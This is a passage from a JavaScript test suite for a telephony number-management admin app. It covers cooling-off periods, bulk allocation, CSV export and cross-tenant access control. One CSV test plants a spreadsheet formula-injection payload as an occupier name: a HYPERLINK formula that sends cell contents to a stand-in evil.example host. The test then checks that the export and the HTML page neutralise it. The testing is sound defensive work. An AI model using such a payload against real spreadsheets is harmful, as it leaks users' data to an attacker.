		'+44 20 7946 0104: It is cooling off after deactivation; it cannot be activated.', 'activate while cooling off');
	await refused(admin, sitePath(cw), { op: 'deactivate', number: id104, confirm: '1' },
		'+44 20 7946 0104: It is already deactivated and cooling off.', 'deactivate twice');
	// Fjord Media is now at 1/2.
	let t = await admin.get(tabPath(fjord, cw));
	assert.match(t.text, /Telephony extensions 1\/2/);

	// The period ends (the day comes): available again, with no job to run.
	db(`UPDATE phone_number SET cooloff_until = ${q(TODAY)} WHERE id = ${id104}`);
	r = await admin.get(sitePath(cw, '?state=available'));
	assert.deepEqual(siteRows(r.body).find((x) => x.number === '+44 20 7946 0104'),
		{ number: '+44 20 7946 0104', main: false, state: 'Available', holder: 'None', details: '' });
	r = await admin.get(sitePath(cw, '?state=cooling_off'));
	assert.ok(!siteRows(r.body).some((x) => x.number === '+44 20 7946 0104'));
	r = await admin.post(sitePath(cw), { op: 'allocate', number: id104, to: fjord });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'allocate after cooling off');
	assert.deepEqual(phone(id104), { ...phone(id104), state: 'reserved', occ: fjord, deactivated: '-', until: '-' });
	r = await admin.post(tabPath(fjord, cw), { op: 'activate', number: id104 });
	assertRedirect(r, `/occupiers/${fjord}/sites/${cw}/telephony?done=saved`, 'activate again');
	assert.equal(phone(id104).state, 'active');
	t = await admin.get(tabPath(fjord, cw));
	assert.match(t.text, /Telephony extensions 2\/2/);
	// And one more is refused with Fjord's own fraction.
	const [extra] = freeNumbers(cw, 1);
	r = await admin.post(sitePath(cw), { op: 'allocate', number: extra.id, to: fjord });
	assertRedirect(r, `/sites/${cw}/telephony?done=saved`, 'allocate one more to Fjord');
	await refused(admin, tabPath(fjord, cw), { op: 'activate', number: extra.id },
		'Telephony extensions 2/2: add a Voice line before activating another number', 'Fjord beyond 2/2');
});

test('bulk allocation: the next N available numbers, or nothing', async () => {
	const avail = db(`SELECT id FROM phone_number WHERE site_id = ${sd} AND (state = 'available'
		OR (state = 'cooling_off' AND cooloff_until <= ${q(TODAY)})) ORDER BY number`).map((x) => Number(x[0]));
	const evergreen = occupierId('Evergreen Ventures');	// a contract at Shoreditch
	const audits = Number(dbValue("SELECT COUNT(*) FROM audit_event WHERE entity = 'phone_number'"));
	let r = await admin.post(sitePath(sd), { op: 'bulk_allocate', count: '3', to: evergreen });
	assertRedirect(r, `/sites/${sd}/telephony?done=saved`, 'bulk allocate 3');
	for (const id of avail.slice(0, 3))
		assert.deepEqual([phone(id).state, phone(id).occ], ['reserved', evergreen]);
	assert.equal(phone(avail[3]).state, 'available');
	assert.equal(Number(dbValue("SELECT COUNT(*) FROM audit_event WHERE entity = 'phone_number'")), audits + 3);
	r = await admin.post(sitePath(sd), { op: 'bulk_allocate', count: '2', to: 'operator' });
	assertRedirect(r, `/sites/${sd}/telephony?done=saved`, 'bulk allocate 2 to the operator');
	assert.deepEqual([phone(avail[3]).operatorHeld, phone(avail[4]).operatorHeld], [true, true]);
	const left = avail.length - 5;
	await refused(admin, sitePath(sd), { op: 'bulk_allocate', count: String(left + 1), to: evergreen },
		`Only ${left} numbers are available at this site: ${left + 1} cannot be allocated.`, 'more than the pool holds');
	await refused(admin, sitePath(sd), { op: 'bulk_allocate', count: '2', to: acme },
		'Numbers can be allocated only to an occupier with a contract at this site.', 'no contract at Shoreditch');
	r = await refused(admin, sitePath(sd), { op: 'bulk_allocate', count: 'lots', to: evergreen },
		'Count must be a whole number', 'not a number');
	assert.match(r.body, /<input id="f-count" name="count" inputmode="numeric" size="4" value="lots" aria-invalid="true">/);
	await refused(admin, sitePath(sd), { op: 'bulk_allocate', count: '0', to: evergreen }, 'Count is too small', 'zero');
	await refusedWith(404, admin, sitePath(sd), { op: 'bulk_allocate', count: '1', to: zephyr }, "Eastwind's occupier");
	// Put them back.
	for (const id of avail.slice(0, 5))
		assertRedirect(await admin.post(sitePath(sd), { op: 'deallocate', number: id }), `/sites/${sd}/telephony?done=saved`);
});

test('CSV export: RFC 4180 with CRLF, quoted fields, formula-safe, as an attachment', async () => {
	const evil = `=HYPERLINK("http://evil.example/?x="&A1, "Click, here") ${rnd(3)}`;
	const occ = await newOccupier(evil);
	await newContract(occ, cw);
	const [n] = freeNumbers(cw, 1);
	const r0 = await admin.post(sitePath(cw), { op: 'allocate', number: n.id, to: occ });
	assertRedirect(r0, `/sites/${cw}/telephony?done=saved`, 'allocate to the = occupier');
	// On screen the name is escaped, never markup.
	const page = await admin.get(sitePath(cw));
	assert.ok(page.body.includes('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1, &quot;Click, here&quot;)'));

	const r = await admin.get(`/sites/${cw}/telephony.csv`);
	assert.equal(r.status, 200);
	assert.match(r.type, /^text\/csv; charset=utf-8/);
	assert.equal(r.headers.get('content-disposition'), `attachment; filename="telephony-canary-wharf-${TODAY}.csv"`);
	const body = r.body;
	assert.ok(body.startsWith('"Number","State","Holder","Main number","Activated","Deactivated","Available again"\r\n'),
		'header row first');
	assert.ok(body.endsWith('\r\n'));
	assert.ok(!/[^\r]\n/.test(body), 'every line ends with CRLF');
	const recs = parseCsv(body);
	assert.equal(recs.length, 61, 'header and 60 numbers');
	assert.ok(recs.every((x) => x.length === 7));
	assert.deepEqual(recs.find((x) => x[0] === "'+44 20 7946 0101"),
		["'+44 20 7946 0101", 'Active', 'Acme Analytics Ltd', '', day(-400), '', '']);
	// Every field is quoted: a line is "...","...",...
	assert.ok(body.split('\r\n').slice(0, -1).every((l) => /^"([^"]|"")*"(,"([^"]|"")*")*$/.test(l)));
	// Text a spreadsheet would run as a formula gets a leading apostrophe
	// (a + number too); quotes are doubled; the comma stays inside its field.
	const line = body.split('\r\n').find((l) => l.includes('evil.example'));
	assert.equal(line, `"'${n.number}","Reserved","'${evil.replace(/"/g, '""')}","","","",""`);
	assert.deepEqual(recs.find((x) => x[0] === `'${n.number}`), [`'${n.number}`, 'Reserved', `'${evil}`, '', '', '', '']);
	assert.ok(recs.slice(1).every((x) => x.every((f) => !/^[=+\-@\t\r]/.test(f))), 'no field starts a formula');
	const cool = recs.find((x) => x[0] === "'+44 20 7946 0157");
	assert.deepEqual(cool.slice(1, 3), ['Cooling off', '']);
	assert.equal(cool[6], dbValue("SELECT cooloff_until FROM phone_number WHERE number = '+44 20 7946 0157'"));
	assert.deepEqual(recs.find((x) => x[0] === "'+44 20 7946 0158").slice(1, 3), ['Reserved', 'Operator']);

	// The export follows the screen's filters.
	const a = await admin.get(`/sites/${cw}/telephony.csv?state=active&holder=${acme}`);
	assert.deepEqual(parseCsv(a.body).slice(1).map((x) => [x[0], x[1], x[2], x[3]]),
		db(`SELECT number, is_main FROM phone_number WHERE occupier_id = ${acme} AND site_id = ${cw}
			AND state = 'active' ORDER BY number`).map(([num, main]) => [`'${num}`, 'Active', 'Acme Analytics Ltd',
			main === '1' ? 'yes' : '']));
	assert.equal(parseCsv(a.body)[1][3], 'yes', "Acme's main number is first");
	// Put the number back.
	assertRedirect(await admin.post(sitePath(cw), { op: 'deallocate', number: n.id }), `/sites/${cw}/telephony?done=saved`);
});

test("another operator's site, occupier or number is 404; occupier roles get 403", async () => {
	const missingSite = Number(dbValue('SELECT MAX(id) FROM site')) + 1;
	for (const p of [sitePath(harbour), `/sites/${harbour}/telephony.csv`, sitePath(missingSite),
		`/sites/${missingSite}/telephony.csv`, tabPath(zephyr, cw), tabPath(acme, harbour), tabPath(zephyr, harbour)]) {
		const r = await admin.get(p);
		assertHtml(r, 404, p);
		assert.ok(!r.body.includes('Harbour') && !r.body.includes('+44 117') && !r.body.includes('Zephyr'), `${p} leaks nothing`);
	}
	const ewNumber = Number(dbValue(`SELECT MIN(id) FROM phone_number WHERE site_id = ${harbour}`));
	await refusedWith(404, admin, sitePath(harbour), { op: 'allocate', number: ewNumber, to: 'operator' }, 'POST to Harbour House');
	await refusedWith(404, admin, tabPath(zephyr, harbour), { op: 'activate', number: ewNumber }, "POST to Zephyr's tab");

	// Eastwind sees its own pool only, and none of Northwind's.
	const ew = await signedIn(EASTWIND_ADMIN);
	const h = await ew.get(sitePath(harbour));
	assertHtml(h, 200, 'Harbour House telephony');
	const rows = siteRows(h.body);
	assert.equal(rows.length, 60);
	assert.deepEqual([rows[0].number, rows[59].number], ['+44 117 496 0000', '+44 117 496 0059']);
	assert.ok(rows.every((x) => x.state === 'Available' && x.holder === 'None'));
	assert.ok(!h.body.includes('+44 20 7946'));
	for (const p of [sitePath(cw), `/sites/${cw}/telephony.csv`, tabPath(acme, cw)])
		assertHtml(await ew.get(p), 404, `Eastwind opening ${p}`);
	await refusedWith(404, ew, sitePath(cw), { op: 'deactivate', number: numberId('+44 20 7946 0100') },
		"Eastwind deactivating Acme's number");
	await refusedWith(404, ew, sitePath(harbour), { op: 'deactivate', number: numberId('+44 20 7946 0100') },
		"Eastwind posting Acme's number to its own site");

	// Occupier logins never reach these screens.
	for (const email of [OCC_ADMIN, OCC_USER]) {
		const c = await signedIn(email);
		for (const p of [sitePath(cw), `/sites/${cw}/telephony.csv`, tabPath(acme, cw)])
			assertHtml(await c.get(p), 403, `${email} GET ${p}`);
		await refusedWith(403, c, tabPath(acme, cw), { op: 'deactivate', number: numberId('+44 20 7946 0100') },
			`${email} POST to the tab`);
		await refusedWith(403, c, sitePath(cw), { op: 'bulk_allocate', count: '1', to: 'operator' }, `${email} POST to the site`);
	}
	// And a POST without the CSRF token changes nothing.
	await refusedWith(403, admin, sitePath(cw), { csrf: '', op: 'deactivate', number: numberId('+44 20 7946 0100') },
		'no CSRF token');
});
